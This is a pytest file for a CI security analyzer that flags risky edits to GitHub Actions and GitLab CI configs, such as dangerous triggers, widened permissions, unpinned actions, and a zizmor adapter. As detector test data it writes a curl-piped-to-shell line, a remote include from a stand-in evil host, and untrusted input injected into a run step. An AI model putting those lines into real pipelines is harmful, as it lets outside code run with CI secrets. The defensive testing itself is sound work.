"""GitHub Actions workflows and composite actions, GitLab CI, and the optional zizmor adapter."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from signoff.analysis import run
from signoff.analysis.zizmor import ZizmorAnalyzer
from signoff.facts import Fact
from signoff.taxonomy import Risk

Analyze = Callable[..., list[Fact]]
Data = Callable[[str], bytes]
WF = ".github/workflows/ci.yml"


def kinds(facts: list[Fact]) -> set[str]:
    return {f.kind for f in facts}


def test_workflow_risky(analyze: Analyze, data: Data) -> None:
    facts = analyze(WF, data("github-actions/before.yml"), data("github-actions/risky.yml"))
    assert {
        "workflow-trigger-added",
        "dangerous-trigger-added",
        "permissions-widened",
        "id-token-write-added",
        "secret-referenced",
        "action-unpinned",
        "action-pin-changed",
        "environment-removed",
        "untrusted-input-in-run",
        "remote-script-piped-to-shell",
    } <= kinds(facts)
    dangerous = next(f for f in facts if f.kind == "dangerous-trigger-added")
    assert dangerous.detail_dict()["trigger"] == "pull_request_target"
    assert dangerous.line == 6
    assert dangerous.risk is Risk.CRITICAL
    triggers = {f.detail_dict()["trigger"] for f in facts if f.kind == "workflow-trigger-added"}
    assert triggers == {"pull_request_target", "issue_comment"}
    injected = next(f for f in facts if f.kind == "untrusted-input-in-run")
    assert "github.event.pull_request.title" in injected.message
    assert injected.line == 23
    secret = next(f for f in facts if f.kind == "secret-referenced")
    assert secret.detail_dict()["secret"] == "PYPI_TOKEN"
    unpinned = next(f for f in facts if f.kind == "action-unpinned")
    assert unpinned.detail_dict()["uses"] == "actions/checkout@v4"
    assert unpinned.line == 16


def test_workflow_benign_reformat_reorder_comments(analyze: Analyze, data: Data) -> None:
    assert analyze(WF, data("github-actions/before.yml"), data("github-actions/benign.yml")) == []


def test_workflow_on_key_forms(analyze: Analyze) -> None:
    old = "on: push\njobs: {}\n"
    assert kinds(analyze(WF, old, "on: [push, workflow_run]\njobs: {}\n")) == {
        "workflow-trigger-added",
        "dangerous-trigger-added",
    }
    assert analyze(WF, old, "'on':\n  push:\njobs: {}\n") == []


def test_permissions_semantics(analyze: Analyze) -> None:
    def wf(perms: str) -> str:
        return f"on: push\n{perms}jobs:\n  a:\n    runs-on: x\n    steps: [{{run: make}}]\n"

    explicit = wf("permissions:\n  contents: read\n")
    assert kinds(analyze(WF, explicit, wf(""))) == {"permissions-widened"}  # back to the default
    assert analyze(WF, explicit, wf("permissions: {}\n")) == []  # narrowed
    assert kinds(analyze(WF, explicit, wf("permissions:\n  contents: write\n"))) == {
        "permissions-widened"
    }
    assert kinds(analyze(WF, wf(""), wf("permissions:\n  id-token: write\n"))) == {
        "permissions-widened",
        "id-token-write-added",
    }
    assert analyze(WF, wf("permissions: write-all\n"), wf("permissions: read-all\n")) == []


def test_reusable_workflow_pin_and_inherit(analyze: Analyze) -> None:
    old = "on: push\njobs:\n  call:\n    uses: org/wf/.github/workflows/r.yml@" + "a" * 40 + "\n"
    new = (
        "on: push\njobs:\n  call:\n"
        "    uses: org/wf/.github/workflows/r.yml@main\n    secrets: inherit\n"
    )
    assert kinds(analyze(WF, old, new)) == {
        "action-unpinned",
        "action-pin-changed",
        "secret-referenced",
    }


def test_composite_action(analyze: Analyze) -> None:
    old = (
        "name: setup\nruns:\n  using: composite\n  steps:\n    - run: echo hi\n      shell: bash\n"
    )
    new = old.replace("echo hi", 'echo "${{ github.event.issue.body }}"')
    facts = analyze(".github/actions/setup/action.yml", old, new)
    assert kinds(facts) == {"untrusted-input-in-run"}


def test_workflow_added_deleted_malformed(analyze: Analyze, data: Data) -> None:
    added = analyze(WF, None, data("github-actions/before.yml"))
    assert "workflow-trigger-added" in kinds(added)
    assert "action-unpinned" not in kinds(added)
    assert analyze(WF, data("github-actions/before.yml"), None) == []
    bad = analyze(WF, data("github-actions/before.yml"), "on: [push\njobs:\n")
    assert kinds(bad) == {"parse-failed"}
    assert bad[0].line is not None
    assert kinds(analyze(WF, "on: push\n", "- just\n- a list\n")) == {"parse-failed"}


def test_yaml_alias_bomb_is_refused(analyze: Analyze) -> None:
    lines = ["a0: &a0 [x, x]"] + [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 120)]
    facts = analyze(WF, "on: push\n", "\n".join(lines) + "\n")
    assert kinds(facts) == {"parse-failed"}
    assert "aliases" in facts[0].message


# GitLab CI ------------------------------------------------------------------------------------

GITLAB = """\
stages: [test, deploy]

include:
  - local: ci/templates.yml
  - project: platform/ci
    ref: v1.2.0
    file: /jobs/lint.yml

default:
  image: python:3.12-slim

test:
  stage: test
  script:
    - pip install -e .
    - pytest
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"

deploy:
  stage: deploy
  image: registry.gitlab.com/acme/deployer:2.1
  script:
    - !reference [.deploy, script]
  rules:
    - if: $CI_COMMIT_BRANCH == "main"
"""


def test_gitlab_risky(analyze: Analyze) -> None:
    new = (
        GITLAB.replace(
            "  - local: ci/templates.yml\n",
            "  - local: ci/templates.yml\n  - remote: https://ci.evil.example/job.yml\n",
        )
        .replace("registry.gitlab.com/acme/deployer:2.1", "docker.io/someone/deployer:latest")
        .replace('$CI_COMMIT_BRANCH == "main"', "$CI_COMMIT_BRANCH")
        .replace("    - pytest\n", "    - pytest\n    - curl -sSL https://get.example.dev | sh\n")
    )
    facts = analyze(".gitlab-ci.yml", GITLAB, new)
    assert kinds(facts) == {
        "gitlab-include-remote",
        "gitlab-image-changed",
        "gitlab-rules-changed",
        "remote-script-piped-to-shell",
    }
    assert next(f for f in facts if f.kind == "gitlab-include-remote").line == 5


def test_gitlab_benign_and_malformed(analyze: Analyze) -> None:
    assert (
        analyze(
            ".gitlab-ci.yml",
            GITLAB,
            "# pipeline\n" + GITLAB.replace("[test, deploy]", "\n  - test\n  - deploy"),
        )
        == []
    )
    assert kinds(analyze(".gitlab-ci.yml", GITLAB, "test: [\n")) == {"parse-failed"}


# zizmor adapter -------------------------------------------------------------------------------


def _fake_zizmor(tmp_path: Path, findings: list[dict[str, object]], code: int = 13) -> str:
    """A stand-in executable printing fixed JSON: the adapter's contract, without zizmor."""
    script = tmp_path / "zizmor"
    payload = json.dumps(findings)
    script.write_text(
        "#!/usr/bin/env python3\nimport sys\n"
        "src = open(sys.argv[-1]).read()\n"
        f"print({payload!r} if 'pull_request_target' in src else '[]')\n"
        f"sys.exit({code} if 'pull_request_target' in src else 0)\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    return str(script)


FINDING: dict[str, object] = {
    "ident": "dangerous-triggers",
    "desc": "use of fundamentally insecure workflow trigger",
    "url": "https://docs.zizmor.sh/audits/#dangerous-triggers",
    "determinations": {"confidence": "Medium", "severity": "High", "persona": "Regular"},
    "locations": [
        {
            "symbolic": {
                "annotation": "pull_request_target is almost always used insecurely",
                "kind": "Primary",
            },
            "concrete": {
                "location": {"start_point": {"row": 0, "column": 0}},
                "feature": "on: pull_request_target",
            },
        }
    ],
}


def test_zizmor_adapter_with_stand_in(tmp_path: Path) -> None:
    zizmor = ZizmorAnalyzer(_fake_zizmor(tmp_path, [FINDING]))
    assert zizmor.handles(WF)
    facts = run(zizmor, WF, b"on: push\n", b"on: pull_request_target\n")
    assert [f.kind for f in facts] == ["zizmor-finding"]
    assert facts[0].risk is Risk.HIGH
    assert facts[0].line == 1
    assert facts[0].detail_dict()["audit"] == "dangerous-triggers"
    # The same finding before and after is not new.
    assert run(zizmor, WF, b"on: pull_request_target\n", b"on: pull_request_target\n# x\n") == []


def test_zizmor_failure_is_parse_failed(tmp_path: Path) -> None:
    zizmor = ZizmorAnalyzer(_fake_zizmor(tmp_path, [FINDING], code=3))
    facts = run(zizmor, WF, b"on: push\n", b"on: pull_request_target\n")
    assert [f.kind for f in facts] == ["parse-failed"]


def test_zizmor_absent_is_skipped() -> None:
    zizmor = ZizmorAnalyzer("signoff-no-such-zizmor")
    assert not zizmor.handles(WF)
    assert zizmor.analyze(WF, b"on: push\n", b"on: pull_request_target\n") == []


@pytest.mark.skipif(
    not os.environ.get("SIGNOFF_ZIZMOR"), reason="set SIGNOFF_ZIZMOR=/path/to/zizmor"
)
def test_real_zizmor() -> None:
    zizmor = ZizmorAnalyzer(os.environ["SIGNOFF_ZIZMOR"])
    new = (
        b"on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
        b"    steps:\n      - uses: actions/checkout@v4\n"
    )
    facts = run(zizmor, WF, b"on: push\njobs: {}\n", new)
    assert "dangerous-triggers" in {f.detail_dict().get("audit") for f in facts}
